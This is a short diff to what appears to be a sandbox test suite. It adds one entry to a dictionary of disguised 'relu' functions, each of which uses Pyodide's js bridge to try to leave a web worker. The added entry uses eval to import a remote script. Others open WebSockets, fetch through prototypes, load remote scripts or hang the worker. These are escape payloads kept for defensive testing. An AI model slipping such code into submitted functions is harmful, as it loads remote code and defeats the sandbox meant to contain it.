@@ -520,6 +520,7 @@ DOORS = {
     "a socket": "def relu(z):\n    import js\n    js.WebSocket.new('wss://example.org/')\n",
     "a prototype": "def relu(z):\n    import js\n    js.Object.getPrototypeOf(js.self).fetch('https://example.org/')\n",
     "another script": "def relu(z):\n    import js\n    js.importScripts('https://example.org/x.js')\n",
+    "a module": "def relu(z):\n    import js\n    js.eval(\"import('https://example.org/x.js')\")\n",
     "the end of the worker": "def relu(z):\n    import js\n    js.close()\n    while True: pass\n",
     "its messages": "def relu(z):\n    import js\n    js.postMessage('nonsense')\n    return z\n",
 }
